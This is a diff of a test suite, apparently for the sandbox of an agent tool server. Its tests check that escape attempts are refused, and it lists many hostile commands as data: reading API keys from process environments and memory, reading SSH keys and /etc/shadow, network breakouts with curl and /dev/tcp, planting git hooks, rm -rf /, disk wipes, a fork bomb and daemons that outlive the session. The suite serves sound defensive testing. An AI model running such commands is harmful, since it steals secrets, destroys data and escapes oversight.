+      expect((await world.bash('while :; do :; done', { timeout: 1 })).text).toMatch(/^The command was stopped/);
+      expect((await world.javascript('for (;;);', { timeout: 1 })).text).toMatch(/ran longer than 1 second/);
+    });
 
-    test.each([
-      ['env', keysOf('env; export -p; set')],
-      ['the shell itself', 'test -n "$FAKE_API_KEY$SCRIPTED_KEY" && echo "$FAKE_API_KEY$SCRIPTED_KEY"'],
-      ['the process', keysOf('cat /proc/self/environ')],
-      ['the first process', keysOf('cat /proc/1/environ')],
-      ['its parent', keysOf('cat /proc/$PPID/environ')],
-      ['all processes', keysOf('cat /proc/[0-9]*/environ /proc/[0-9]*/task/*/environ')],
-      ['the command lines', keysOf('cat /proc/[0-9]*/cmdline')],
-      ['all processes with ps', keysOf('ps eauxww')],
-      ['Python', python('import os, sys; print(os.environ, os.environb); sys.exit(1)')],
-      ['a shell for logins', keysOf('bash -lc env; bash -ic env')],
-      [
-        'memory of the processes above',
-        python(
-          'import re\nfor pid in range(1, 10):\n  if pid != __import__("os").getpid():\n    for line in open(f"/proc/{pid}/maps"):\n      if "[stack]" in line:\n        low, high = [int(one, 16) for one in line.split()[0].split("-")]\n        memory = open(f"/proc/{pid}/mem", "rb")\n        memory.seek(low)\n        print(re.findall(rb"[A-Z_]*KEY=[^\\0]*", memory.read(high - low)))\nraise SystemExit(1)',
-        ),
-      ],
-    ])('%s', async (_, command) => {
-      await refused('bash', { command });
+    test('a large file is not read at once', async () => {
+      await world.bash('head -c 5000000 /dev/zero > large.bin');
+      expect((await world.call('read_file', { path: '/large.bin' })).text).toMatch(/^EFBIG|larger than/);
+    });
+
+    test('what never has an end is no file', async () => {
+      await world.bash('mkfifo pipe; ln -s /dev/zero zero; ln -s /dev/random random');
+      for (const path of ['/pipe', '/zero', '/random'])
+        expect((await world.call('read_file', { path })).text).toMatch(/^(ENOENT|EINVAL)/);
+      await world.bash('rm pipe zero random large.bin');
     });
   });
 
-  describe('in code', () => {
-    needsConfinement();
-
-    test.each([
-      'process.env',
-      'globalThis.process.env',
-      'global.process.env',
-      'Function("return process.env")()',
-      '(0, eval)("process.env")',
-      '(() => {}).constructor("return process.env")()',
-      'console.log.constructor("return this")().process.env',
-      'Buffer.from.constructor("return process.env")()',
-      'new (Object.getPrototypeOf(async () => {}).constructor)("return process.env")().then((env) => env)',
-      'require("node:process").env',
-      'module.constructor._load("node:process").env',
-      '(await import("node:process")).default.env',
-      '(await import("data:text/javascript,export default process.env")).default',
-      '(await import("data:text/javascript,import p from %22node:process%22; export default p.env")).default',
-      'Error.prepareStackTrace = (_, sites) => sites.map((site) => site.getThis()?.process?.env).find(Boolean); const { stack } = new Error(); Error.prepareStackTrace = undefined; stack.FAKE_API_KEY.length',
-      'await (await fetch("file:///proc/self/environ")).text()',
-      'await vfs.readFile("/proc/self/environ")',
-      'new Worker("data:text/javascript,postMessage(process.env)")',
-      'Object.values(globalThis).find((value) => value?.env).env',
-      'new WebAssembly.Module(process.env)',
-      'process.getBuiltinModule("node:fs").readFileSync("/proc/self/environ", "utf8")',
-      'process.binding("fs")',
-    ])('%s', async (code) => {
-      await refused('browser_js_eval', { code });
-    });
-  });
-});
-
-describe('the network', () => {
-  needsConfinement();
-
-  test.each<[string, (to: Outside) => string]>([
-    [
-      'a socket of Python',
-      ({ tcpPort }) => python(`import socket; print(socket.create_connection(("127.0.0.1", ${tcpPort}), 3).recv(99))`),
-    ],
-    [
-      'a packet of Python',
-      ({ udpPort }) =>
-        // A packet goes nowhere without an error where the address is the confinement's own.
-        `${python(`import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", ${udpPort}))`)}; false`,
-    ],
-    ['/dev/tcp', ({ tcpPort }) => `exec 3<>/dev/tcp/127.0.0.1/${tcpPort} && cat <&3`],
-    ['/dev/tcp with a name', ({ tcpPort }) => `exec 3<>/dev/tcp/localhost/${tcpPort} && cat <&3`],
-    ['curl', ({ tcpPort }) => `curl -fsS -m 3 --http0.9 http://127.0.0.1:${tcpPort}/`],
-    ['curl without a proxy', ({ tcpPort }) => `curl -fsS -m 3 --http0.9 --noproxy '*' http://127.0.0.1:${tcpPort}/`],
-    [
-      'curl through the proxy of the confinement',
-      ({ tcpPort }) => `NO_PROXY= no_proxy= curl -fsS -m 3 --http0.9 http://127.0.0.1:${tcpPort}/`,
-    ],
-    [
-      'curl through a tunnel of the proxy',
-      ({ tcpPort }) => `NO_PROXY= no_proxy= curl -fsS -m 3 -p --http0.9 http://localhost:${tcpPort}/`,
-    ],
-    [
-      'curl through SOCKS',
-      ({ tcpPort }) =>
-        `NO_PROXY= no_proxy= curl -fsS -m 3 --http0.9 --socks5-hostname "\${ALL_PROXY##*@}" http://127.0.0.1:${tcpPort}/`,
-    ],
-    ['the wildcard address', ({ tcpPort }) => `curl -fsS -m 3 --http0.9 --noproxy '*' http://0.0.0.0:${tcpPort}/`],
-    [
-      'a mapped address',
-      ({ tcpPort }) => `curl -fsS -m 3 --http0.9 --noproxy '*' 'http://[::ffff:127.0.0.1]:${tcpPort}/'`,
-    ],
-    ['a unix socket with curl', ({ unixSocket }) => `curl -fsS -m 3 --http0.9 --unix-socket ${unixSocket} http://x/`],
-    [
-      'a unix socket with Python',
-      ({ unixSocket }) =>
-        python(`import socket; s = socket.socket(socket.AF_UNIX); s.connect("${unixSocket}"); print(s.recv(99))`),
-    ],
-    [
-      'an abstract unix socket',
-      ({ abstractSocket }) =>
-        python(
-          `import socket; s = socket.socket(socket.AF_UNIX); s.connect("\\0${abstractSocket}"); print(s.recv(99))`,
-        ),
-    ],
-    ['socat', ({ tcpPort }) => `socat -T 3 - TCP:127.0.0.1:${tcpPort} </dev/null`],
-    ['socat to a unix socket', ({ unixSocket }) => `socat -T 3 - UNIX-CONNECT:${unixSocket} </dev/null`],
-    ['git', ({ tcpPort }) => `GIT_TERMINAL_PROMPT=0 NO_PROXY= timeout 5 git ls-remote http://127.0.0.1:${tcpPort}/x`],
-    [
-      'another namespace for the network',
-      ({ tcpPort }) => `nsenter -t 1 -n bash -c 'exec 3<>/dev/tcp/127.0.0.1/${tcpPort} && cat <&3'`,
-    ],
-  ])('commands: %s', async (_, command) => {
-    await refused('bash', { command: command(outside), timeout: 10 });
-  });
-
-  test('commands: a unix socket in the folder', async () => {
-    const place = join(bench.folder, 'socket-inside');
-    await listen({ path: place });
-    const code = 'import socket; s = socket.socket(socket.AF_UNIX); s.connect("socket-inside"); print(s.recv(99))';
-    await refused('bash', { command: python(code), timeout: 10 });
-  });
-
-  test.each<[string, (to: Outside) => string]>([
-    ['fetch', ({ tcpPort }) => `await (await fetch("http://127.0.0.1:${tcpPort}/")).text()`],
-    ['fetch with a request', ({ tcpPort }) => `await fetch(new Request("http://127.0.0.1:${tcpPort}/"))`],
-    ['WebSocket', ({ tcpPort }) => `new WebSocket("ws://127.0.0.1:${tcpPort}/")`],
-    ['EventSource', ({ tcpPort }) => `new EventSource("http://127.0.0.1:${tcpPort}/")`],
-    ['XMLHttpRequest', ({ tcpPort }) => `new XMLHttpRequest().open("GET", "http://127.0.0.1:${tcpPort}/")`],
-    ['net', ({ tcpPort }) => `require("node:net").connect(${tcpPort}, "127.0.0.1")`],
-    ['imported net', ({ tcpPort }) => `(await import("node:net")).connect(${tcpPort}, "127.0.0.1")`],
-    ['net as a built-in', ({ tcpPort }) => `process.getBuiltinModule("node:net").connect(${tcpPort})`],
-    ['an imported module', ({ tcpPort }) => `await import("http://127.0.0.1:${tcpPort}/x.js")`],
-  ])('code: %s', async (_, code) => {
-    await refused('browser_js_eval', { code: code(outside), timeout: 10 });
-  });
-});
-
-describe('programs that the confinement uses', () => {
-  needsConfinement();
-
-  let other: CliBench;
-  let server: ToolClient;
-  let socket: string;
-  beforeEach(async () => {
-    other = await CliBench.start();
-    other.write({ '.roundtrip/config.yaml': CONFIG, 'node_modules/.bin/tool': '#!/bin/sh\n' });
-    socket = join(other.folder, 'socket');
-    await listen({ path: socket });
-    // As after `npx roundtrip` in the folder.
-    const path = `${join(other.folder, 'node_modules/.bin')}${delimiter}${process.env.PATH}`;
-    server = new ToolClient(other.open(['serve', '--stdio'], { HOME: outside.home, PATH: path }));
-  });
-  afterEach(async () => {
-    server.child.kill('SIGKILL');
-    await other.stop();
-  });
-
-  test.each([
-    ['bwrap', 'node_modules/.bin'],
-    ['socat', 'node_modules/.bin'],
-    ['rg', 'node_modules/.bin'],
-    ['bash', 'node_modules/.bin'],
-    ['git', 'node_modules/.bin'],
-    ['socat', '$TMPDIR'],
-  ])('%s in %s is not what starts the next command', async (name, folder) => {
-    // Notes that it has run, on the machine or past the filter for sockets, and goes on as the real one.
-    const script = [
-      '#!/bin/sh',
-      `echo escaped 2>/dev/null > ${outside.folder}/escaped`,
-      `"$CURL" -s -m 1 --http0.9 --unix-socket ${socket} http://x/ >/dev/null`,
-      'exec "$REAL" "$@"',
-    ].join('\n');
-    const command = `real=$(PATH=\${PATH#*:} command -v ${name} || echo /bin/false)
-      printf '%s\\n' ${quoted(script)} | sed "s:\\$CURL:$(command -v curl):; s:\\$REAL:$real:" > "${folder}/made"
-      chmod +x "${folder}/made"; mv -f "${folder}/made" "${folder}/${name}"`;
-    await attempt('bash', { command }, server);
-    await attempt('bash', { command: 'sleep 0.3; echo next' }, server);
-    await attempt('browser_js_eval', { code: '1' }, server);
-    await attempt('search_text', { pattern: 'next' }, server);
-    const hasRun = existsSync(join(outside.folder, 'escaped'));
-    rmSync(join(outside.folder, 'escaped'), { force: true });
-    expect(hasRun, `${name} has run on the machine`).toBe(false);
-    expect(arrivals, `${name} has reached a socket`).toBe(0);
-  });
-});
-
-describe.skipIf(!isLinux)('other processes', () => {
-  needsConfinement();
-
-  test.each<[string, (to: Outside) => string]>([
-    ['ending the server', ({ serverPid }) => `kill -9 ${serverPid}`],
-    ['ending a process', ({ victimPid }) => `kill -9 ${victimPid}`],
-    ['stopping a process', ({ victimPid }) => `kill -STOP ${victimPid}`],
-    ['ending a process group', ({ victimPid }) => `kill -9 -- -${victimPid}`],
-    ['ending a process with Python', ({ victimPid }) => python(`import os; os.kill(${victimPid}, 9)`)],
-    ['ending all processes', () => python('import os; os.kill(-1, 9)')],
-    ['ending processes by name', () => 'pkill -9 -x sleep'],
-    ['reading the environment of a process', ({ victimPid }) => `cat /proc/${victimPid}/environ`],
-    ['reading the environment of the server', ({ serverPid }) => `cat /proc/${serverPid}/environ`],
-    ['reading the memory of a process', ({ victimPid }) => `head -c 1 /proc/${victimPid}/mem`],
-    ['writing to the memory of a process', ({ victimPid }) => `echo x > /proc/${victimPid}/mem`],
-    ['the folder of a process', ({ serverPid }) => `cat /proc/${serverPid}/cwd/../others/secret.txt`],
-    ['files of a process', ({ victimPid }) => `ls /proc/${victimPid}/fd`],
-    ['the root of the first process', ({ secret }) => `cat /proc/1/root${secret}`],
-    ['the folder of the first process', () => 'cat /proc/1/cwd/../others/secret.txt'],
-    ['files that were left open', ({ secret }) => `for one in /proc/[0-9]*/fd/*; do cat "$one/${secret}"; done; false`],
-    [
-      'tracing a process',
-      ({ victimPid }) =>
-        python(`import ctypes, sys; sys.exit(0 if ctypes.CDLL(None).ptrace(16, ${victimPid}, 0, 0) == 0 else 1)`),
-    ],
-    [
-      'reading memory with process_vm_readv',
-      ({ victimPid }) =>
-        python(
-          `import ctypes, sys\nlow = int(open("/proc/self/maps").read(12), 16)\none = (ctypes.c_size_t * 2)(low, 1)\nhere = ctypes.create_string_buffer(1)\nmine = (ctypes.c_size_t * 2)(ctypes.addressof(here), 1)\nsys.exit(0 if ctypes.CDLL(None).process_vm_readv(${victimPid}, mine, 1, one, 1, 0) >= 0 else 1)`,
-        ),
-    ],
-    ['priorities', ({ victimPid }) => `renice -n 19 -p ${victimPid}`],
-    ['limits', ({ victimPid }) => `prlimit --pid ${victimPid} --nofile=1:1`],
-    ['the score for running out of memory', ({ victimPid }) => `echo 1000 > /proc/${victimPid}/oom_score_adj`],
-    ['namespaces of the first process', ({ secret }) => `nsenter -t 1 -m -p cat ${secret}`],
-    ['namespaces of the server', ({ secret, serverPid }) => `nsenter -t ${serverPid} -m cat ${secret}`],
-    ['settings of the kernel', () => 'echo x > /proc/sys/kernel/hostname'],
-    ['the pattern for core files', () => 'echo "|/bin/false" > /proc/sys/kernel/core_pattern'],
-    ['the trigger of the kernel', () => 'echo h > /proc/sysrq-trigger'],
-  ])('%s', async (_, command) => {
-    await refused('bash', { command: command(outside) });
-    expect(victim.exitCode ?? victim.signalCode).toBeNull();
-    expect(client.child.exitCode ?? client.child.signalCode).toBeNull();
-    // The third field is the state; `T` is stopped.
-    expect(readFileSync(`/proc/${outside.victimPid}/stat`, 'utf8').split(' ')[2]).toBe('S');
-    expect(readFileSync(`/proc/${outside.victimPid}/oom_score_adj`, 'utf8')).not.toBe('1000\n');
-  });
-});
-
-describe('files of the machine', () => {
-  needsConfinement();
-
-  test.each<[string, (to: Outside) => string]>([
-    ['a file of home', ({ home }) => `cat ${home}/private.txt`],
-    ['a file of home by a variable', () => 'cat "$HOME/private.txt"'],
-    ['a key in home', () => 'cat ~/.ssh/id'],
-    ['home through another path', ({ home }) => `cat /proc/self/root${home}/private.txt`],
-    ['searching home', () => 'grep -r secret ~'],
-    ['logs in home', () => 'cat ~/.npm/_logs/log ~/.claude/debug/log'],
-    ['a temporary file of others', ({ secret }) => `cat ${secret}`],
-    ['writing to it', ({ secret }) => `echo written > ${secret}`],
-    ['changing its mode', ({ secret }) => `chmod 777 ${secret}`],
-    ['linking it', ({ secret }) => `ln ${secret} linked`],
-    ['deleting it', ({ folder }) => `rm -r ${folder}`],
-    ['moving the folder', ({ folder }) => `mv "$(pwd -P)" ${folder}`],
-    ['/etc', () => 'echo written > /etc/escaped'],
-    ['a file of /etc', () => 'echo written >> /etc/hosts'],
-    ['/usr', () => 'touch /usr/escaped /usr/local/bin/escaped'],
-    ['/run', () => 'mkdir -p /run/escaped && touch /run/escaped/x'],
-    ['the root', () => 'touch /escaped'],
-    ['a disk', () => 'head -c 1 /dev/sda || head -c 1 /dev/vda || head -c 1 /dev/nvme0n1'],
-    ['memory', () => 'head -c 1 /dev/mem || head -c 1 /dev/kmem || head -c 1 /proc/kcore'],
-    ['messages of the kernel', () => 'test -c /dev/kmsg && echo written > /dev/kmsg'],
-    ['the terminal', () => 'echo written > /dev/tty'],
-    ['terminals of others', () => 'echo written > /dev/pts/0'],
-    ['a new device', () => 'mknod disk b 8 0 || mknod disk b 254 0 && head -c 1 disk'],
-    ['mounting', ({ secret }) => `mkdir -p mounted && mount --bind / mounted && cat mounted${secret}`],
-    ['mounting anew', () => 'mount -o remount,rw / && touch /usr/escaped'],
-    ['unmounting what hides home', () => 'umount -l "$HOME" && cat "$HOME/private.txt"'],
-    ['unmounting what hides sessions', () => 'umount -l .roundtrip/sessions && cat .roundtrip/sessions/*'],
-    ['a namespace of its own', ({ home }) => `unshare -Urm bash -c 'umount -l ${home}; cat ${home}/private.txt'`],
-    ['another root', ({ secret }) => `chroot / cat ${secret}`],
-    [
-      'a handle of a file',
-      () =>
-        python(
-          'import ctypes, os, sys\nlib = ctypes.CDLL(None)\nhandle = ctypes.create_string_buffer((8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little"))\nsys.exit(0 if lib.open_by_handle_at(os.open(".", 0), handle, 0) >= 0 else 1)',
-        ),
-    ],
-    ['another user', () => 'sudo -n cat /etc/shadow || su -c "cat /etc/shadow" nobody'],
-  ])('%s', async (_, command) => {
-    const hosts = readFileSync('/etc/hosts', 'utf8');
-    await refused('bash', { command: command(outside), timeout: 10 });
-    for (const path of ['/etc', '/usr', '/usr/local/bin', '/run', ''])
-      expect(existsSync(`${path}/escaped`), path).toBe(false);
-    expect(readFileSync('/etc/hosts', 'utf8')).toBe(hosts);
-    expect(existsSync(bench.folder)).toBe(true);
-  });
-
-  // What is written may go to a place that is the confinement's own. Then it must not be on the machine.
-  test.each<[string, (to: Outside) => string]>([
-    ['shared memory', () => '/dev/shm'],
-    ['temporary files', () => realpathSync(tmpdir())],
-    ['temporary files of the machine', () => '/tmp'],
-    ['temporary files that are kept', () => '/var/tmp'],
-    ['temporary files of the runtime', () => '/tmp/claude'],
-    ['the folder above', () => bench.outside],
-    ['home', ({ home }) => home],
-    ['logs of npm in home', ({ home }) => join(home, '.npm/_logs')],
-    ['logs of the runtime in home', ({ home }) => join(home, '.claude/debug')],
-  ])('what is written to %s is not there afterwards', async (_, place) => {
-    const name = `escaped-${process.pid}`;
-    const path = join(place(outside), name);
-    await attempt('bash', { command: `echo written > ${path}` });
-    const isThere = existsSync(path);
-    rmSync(path, { force: true });
-    expect(isThere).toBe(false);
-  });
-
-  test('nothing is left for the next command', async () => {
-    await attempt('bash', { command: 'echo left > /tmp/left; echo left > /dev/shm/left; true' });
-    await refused('bash', { command: 'cat /tmp/left || cat /dev/shm/left' });
-  });
-});
-
-describe('git', () => {
-  const PLACES = [
-    '/.git/hooks/pre-commit',
-    '/.git/hooks/post-merge',
-    '/.git/config',
-    '/.git/config.worktree',
-    '/.git/commondir',
-    '/.GIT/hooks/pre-commit',
-    '/.Git/config',
-    '/src/../.git/config',
-    '/.git/./hooks//pre-commit',
-    '/src/.git/hooks/pre-commit',
-    '/src/.git',
-    '/.git',
-  ];
-
-  test.each(PLACES)('%s is not written by tools', async (path) => {
-    for (const [tool, input] of WRITING) await refused(tool, input(path));
-    await refused('make_directory', { path: path === '/.git' ? '/.git/made' : path });
-    await refused('delete_path', { path, recursive: true });
-    await refused('move_path', { from: path, to: '/moved' });
-    expect(bench.read('src/.git')).toBeUndefined();
-    expect(readdirSync(bench.folder).filter((name) => name.toLowerCase() === '.git')).toEqual(['.git']);
-  });
-
-  test('a folder is not moved to where git looks', async () => {
-    bench.write({ 'prepared/hooks/pre-commit': '#!/bin/sh\ntouch ran\n' });
-    for (const to of ['/.git/hooks', '/.git', '/src/.git', '/.GIT']) {
-      await refused('move_path', { from: '/prepared', to });
-      await refused('copy_path', { from: '/prepared', to });
-    }
-  });
-
-  test('a symlink to it is not a way', async () => {
-    symlinkSync('.git', join(bench.folder, 'git-link'));
-    symlinkSync('.git/config', join(bench.folder, 'config-link'));
-    for (const [tool, input] of WRITING) {
-      await refused(tool, input('/git-link/hooks/pre-commit'));
-      await attempt(tool, input('/config-link'));
-    }
-  });
-
-  describe('with commands', () => {
-    needsConfinement();
-
-    test.each([
-      'echo touch ran > .git/hooks/pre-commit',
-      'echo touch ran >> .git/hooks/post-merge',
-      'rm .git/hooks/post-merge',
-      'mv .git/hooks .git/old-hooks',
-      'git config core.hooksPath /tmp',
-      'git config core.fsmonitor "touch ran"',
-      'echo "[core]" >> .git/config',
-      'mv .git other-git && mkdir .git && mkdir .git/hooks',
-      'cp -r .git copied-git && mv copied-git/config .git/config',
-      'chmod 777 .git/config',
-      'ln -sf ../plain.txt .git/config',
-      python('import os; os.rename(".git", "other-git")'),
-      python('import os; os.rename("src", ".git/hooks")'),
-      'rm -rf .git',
-      'find .git -delete',
-    ])('%s', async (command) => {
-      await refused('bash', { command });
-      expect(bench.read('ran')).toBeUndefined();
-    });
-
-    test.each([
-      ['a file', 'echo ../others > .git/NAME'],
-      ['a folder', 'mkdir .git/NAME && echo x > .git/NAME/x'],
-      ['a symlink', 'mkdir -p prepared && ln -s ../prepared .git/NAME'],
-      ['a symlink to what comes later', 'ln -s ../comes-later .git/NAME'],
-      ['a loop of symlinks', 'ln -s NAME .git/NAME'],
-    ])('what git would read is gone after a command: %s', async (_, command) => {
-      for (const name of ['commondir', 'config.worktree']) {
-        await attempt('bash', { command: command.replaceAll('NAME', name) });
-        const made = lstatSync(join(bench.folder, '.git', name), { throwIfNoEntry: false });
-        rmSync(join(bench.folder, '.git', name), { recursive: true, force: true });
-        expect(made, name).toBeUndefined();
-      }
-    });
-
-    test('a hook does not come later through a symlink', async () => {
-      rmSync(join(bench.folder, '.git/hooks'), { recursive: true });
-      try {
-        await attempt('bash', {
-          command:
-            'mkdir early; echo "touch ran" > early/pre-commit; chmod +x early/pre-commit; ln -s ../late .git/hooks',
-        });
-        await attempt('move_path', { from: '/early', to: '/late' });
-        expect(bench.read('late/pre-commit')).toBe('touch ran\n');
-        spawnSync('git', ['-c', 'user.name=x', '-c', 'user.email=x@x', 'commit', '--allow-empty', '-qm', 'x'], {
-          cwd: bench.folder,
-        });
-        expect(bench.read('ran')).toBeUndefined();
-      } finally {
-        rmSync(join(bench.folder, '.git/hooks'), { recursive: true, force: true });
-        bench.write({ '.git/hooks/post-merge': '#!/bin/sh\n' });
-      }
-    });
-  });
-});
-
-describe('what belongs to the program', () => {
-  const PLACES = [
-    '/.roundtrip/config.yaml',
-    '/.roundtrip/sessions/other.jsonl',
-    '/.roundtrip/sessions',
-    '/.roundtrip/journal',
-    '/.ROUNDTRIP/config.yaml',
-    '/.Roundtrip/sessions/other.jsonl',
-    '/src/../.roundtrip/config.yaml',
-    '/.roundtrip/./config.yaml',
-    '/.roundtrip//config.yaml',
-    '.roundtrip/config.yaml',
-  ];
-
-  test.each(PLACES)('%s is neither read nor written by tools', async (path) => {
-    for (const [tool, input] of READING) {
-      const { content, hasFailed } = await attempt(tool, input(path));
-      if (!hasFailed) expect(content, tool).toMatch(/^(No |0 |There are no )/);
-      expect(content).not.toContain(CANARY);
-    }
-    for (const [tool, input] of WRITING) await refused(tool, input(path));
-    await refused('delete_path', { path, recursive: true });
-    await refused('move_path', { from: path, to: '/moved' });
-    expect(bench.read('copied')).toBeUndefined();
-  });
-
-  test('the folder itself is neither moved, copied nor deleted', async () => {
-    for (const path of ['/.roundtrip', '/.ROUNDTRIP']) {
-      await refused('delete_path', { path, recursive: true });
-      await refused('move_path', { from: path, to: '/moved' });
-      await attempt('copy_path', { from: path, to: '/copied-own' });
-      expect(bench.read('copied-own/config.yaml')).toBeUndefined();
-    }
-    await refused('delete_path', { path: '/', recursive: true });
-  });
-
-  test('searches and lists of everything do not show it', async () => {
-    for (const [tool, input] of READING.filter(([tool]) => /search|list|count/.test(tool)))
-      expect((await attempt(tool, input('/'))).content).not.toMatch(/sessions|config\.yaml/);
-    for (const pattern of ['.roundtrip/**', '**/*.yaml', '**/*.jsonl', '.*/*'])
-      expect((await attempt('search_files', { pattern })).content).not.toMatch(/^\/.*(roundtrip|jsonl)/m);
-    expect((await attempt('search_text', { pattern: 'canary-of', path: '/' })).content).not.toContain(CANARY);
-  });
-
-  test('a symlink to it is not a way', async () => {
-    symlinkSync('.roundtrip', join(bench.folder, 'own-link'));
-    for (const path of ['/own-link/config.yaml', '/own-link/sessions/other.jsonl']) {
-      for (const [tool, input] of READING) expect((await attempt(tool, input(path))).content).not.toContain(CANARY);
-      for (const [tool, input] of WRITING) await refused(tool, input(path));
-    }
-  });
-
-  describe('with commands', () => {
-    needsConfinement();
-
-    test.each([
-      'echo "commands: {}" >> .roundtrip/config.yaml',
-      'rm .roundtrip/config.yaml',
-      'mv .roundtrip other',
-      'mv .roundtrip/config.yaml x.yaml',
-      'touch .roundtrip/new',
-      'sed -i s/allow/deny/ .roundtrip/config.yaml',
-      'ln -sf ../plain.txt .roundtrip/config.yaml',
-      'cat .roundtrip/sessions/*',
-      'cat .roundtrip/journal/*',
-      'ls .roundtrip/sessions/other.jsonl',
-      'grep -r session-secret- . ',
-      python('import os; os.rename("src", ".roundtrip")'),
-      'mkdir -p own && mv -T own .roundtrip',
-    ])('%s', async (command) => {
-      await refused('bash', { command });
-    });
-  });
-});
-
-describe('commands that are refused', () => {
-  let other: CliBench;
-  let server: ToolClient;
-  beforeAll(async () => {
-    other = await CliBench.start();
-    other.write({ '.roundtrip/config.yaml': `${CONFIG}commands:\n  deny: [touch, git push]\n` });
-    server = new ToolClient(other.open(['serve', '--stdio'], { HOME: outside.home, FAKE_API_KEY: SECRETS.key }));
-  });
-  afterAll(async () => {
-    server.child.kill('SIGKILL');
-    await other.stop();
-  });
-
-  test.each([
-    'rm -rf /',
-    'rm -rf /*',
-    'rm -rf .',
-    'rm -rf ./*',
-    'rm -rf *',
-    'rm -rf ..',
-    'rm -fr ~',
-    'rm -r -f -- .',
-    'rm --recursive --force .',
-    '/bin/rm -rf .',
-    'sudo rm -rf /',
-    'cd / && rm -rf *',
-    'bash -c "rm -rf ."',
-    'sh -c "rm -rf *"',
-    'env rm -rf .',
-    'true; false || rm -rf .',
-    '(rm -rf .)',
-    '$(rm -rf .)',
-    'if true; then rm -rf .; fi',
-    'find . -delete',
-    'find . -exec rm -rf {} +',
-    'mkfs /dev/sda',
-    'mkfs.ext4 /dev/sda1',
-    'dd if=/dev/zero of=/dev/sda',
-    'cat plain.txt > /dev/sda',
-    'echo x | tee /dev/nvme0n1',
-    ':(){ :|:& };:',
-    'bomb() { bomb | bomb & }; bomb',
-    'chmod -R 000 /',
-    'shutdown -h now',
-    'touch denied',
-    '/usr/bin/touch denied',
-    'bash -c "touch denied"',
-    'sh -c \'sh -c "touch denied"\'',
-    'env touch denied',
-    'env X=1 touch denied',
-    'X=1 touch denied',
-    'command touch denied',
-    'nohup touch denied',
-    'timeout 5 touch denied',
-    'echo denied | xargs touch',
-    'find . -name plain.txt -exec touch denied \\;',
-    'eval "touch denied"',
-    'it=touch; $it denied',
-    '$(echo touch) denied',
-    "t''ouch denied",
-    '\\touch denied',
-    'true && touch denied',
-    'true & touch denied',
-    'echo $(touch denied)',
-    'cat <(touch denied)',
-    'f() { touch denied; }; f',
-    'git push',
-    'git push --force origin main',
-    'bash -c "git push"',
-    'it=push; git $it',
-  ])('%s', async (command) => {
-    other.write({ 'plain.txt': 'plain\n', 'below/plain.txt': 'plain\n' });
-    const content = await refused('bash', { command, timeout: 5 }, server);
-    expect(content).toMatch(/^Not run\. /);
-    expect(content).not.toContain(other.folder);
-    expect(other.read('plain.txt')).toBe('plain\n');
-    expect(other.read('below/plain.txt')).toBe('plain\n');
-    expect(other.read('denied')).toBeUndefined();
-  });
-});
-
-describe.skipIf(!isLinux)('processes that stay', () => {
-  needsConfinement();
-
-  let others = 0;
-  /** A number of seconds that no other process sleeps. */
-  const someTime = () => `${600 + others++}.${process.pid}`;
-
-  /** The processes of the machine whose command line has a word. */
-  const running = (word: string): string[] =>
-    readdirSync('/proc').filter((pid) => {
-      try {
-        return /^\d+$/.test(pid) && readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0').includes(word);
-      } catch {
-        // It has ended in the meantime.
-        return false;
-      }
-    });
-
-  const isGone = (word: string) =>
-    vi.waitFor(() => expect(running(word)).toEqual([]), { timeout: 5_000, interval: 50 });
-
-  const DAEMON = (time: string) =>
-    python(
-      `import os\nif os.fork() == 0:\n  os.setsid()\n  if os.fork() == 0:\n    null = os.open("/dev/null", 2)\n    for one in range(3): os.dup2(null, one)\n    os.execvp("sleep", ["sleep", "${time}"])\n  os._exit(0)`,
-    );
-
-  const KINDS: [string, (time: string) => string][] = [
-    ['in the background', (time) => `sleep ${time} &`],
-    ['without output', (time) => `sleep ${time} >/dev/null 2>&1 </dev/null & disown`],
-    ['in a session of its own', (time) => `setsid sleep ${time} >/dev/null 2>&1 </dev/null &`],
-    ['that ignores signals', (time) => `(trap '' HUP TERM INT; exec setsid nohup sleep ${time} >/dev/null 2>&1) &`],
-    ['as a daemon', DAEMON],
-  ];
-
-  test.each(KINDS)('%s: gone after the command', async (_, command) => {
-    const time = someTime();
-    const { hasFailed } = await attempt('bash', { command: `${command(time)}\nsleep 0.1; echo started` });
-    expect(hasFailed).toBe(false);
-    await isGone(time);
-  });
-
-  test.each(KINDS)('%s: gone after the time limit', async (_, command) => {
-    const time = someTime();
-    const answer = refused('bash', { command: `${command(time)}\nsleep ${time}`, timeout: 0.5 });
-    await vi.waitFor(() => expect(running(time).length).toBeGreaterThan(1), { interval: 10 });
-    expect(await answer).toContain('stopped after');
-    await isGone(time);
-  });
-
-  describe('when the server ends', () => {
-    let other: CliBench;
-    beforeEach(async () => {
-      other = await CliBench.start();
-      other.write({ '.roundtrip/config.yaml': CONFIG });
-    });
-    afterEach(() => other.stop());
-
-    test.each(['SIGKILL', 'SIGTERM', 'SIGINT', 'SIGHUP'] as const)('by %s', async (name) => {
-      const time = someTime();
-      const server = new ToolClient(other.open(['serve', '--stdio']));
-      server.send({
-        ...{ id: 1, method: 'call_tool' },
-        params: { name: 'bash', input: { command: `setsid sleep ${time} & ${DAEMON(time)}; sleep ${time}` } },
+  describe('by code', () => {
+    const AGENT = 'globalThis[Symbol.for("undici.globalDispatcher.1")]';
+    const dispatch = (agent: string, origin: string) => `await new Promise((done) => {
+      globalThis.clearImmediate ??= () => {};
+      ${agent}.dispatch({ origin: ${JSON.stringify(origin)}, path: '/', method: 'GET' }, {
+        onConnect() {}, onHeaders() {}, onData() {}, onRequestStart() {},
+        onComplete() { done('answered'); }, onError(error) { done(error.code ?? String(error)); },
+        onResponseError(_, error) { done(error.code ?? String(error)); },
       });
-      await vi.waitFor(() => expect(running(time).length).toBeGreaterThan(2), { timeout: 10_000, interval: 50 });
-      const closed = once(server.child, 'exit');
-      server.child.kill(name);
-      await closed;
-      await isGone(time);
+    })`;
+
+    test.each<[string, () => string, RegExp]>([
+      ['process', () => 'process.binding("fs")', /process is not defined/],
+      ['require', () => 'require("fs")', /require is not defined/],
+      ['a module', () => 'await import("node:fs")', /There are no modules here/],
+      [
+        'a module of a module',
+        () => `await import('data:text/javascript,export * from "node:fs"')`,
+        /There are no modules here/,
+      ],
+      ['a file as a module', () => `await import("file://${ROOT}/lib/base/sha256.ts")`, /There are no modules here/],
+      ['a relative module', () => 'await import("../../disk/disk-storage.ts")', /There are no modules here/],
+      ['a module from the network', () => 'await import("https://example.com/x.js")', /There are no modules here/],
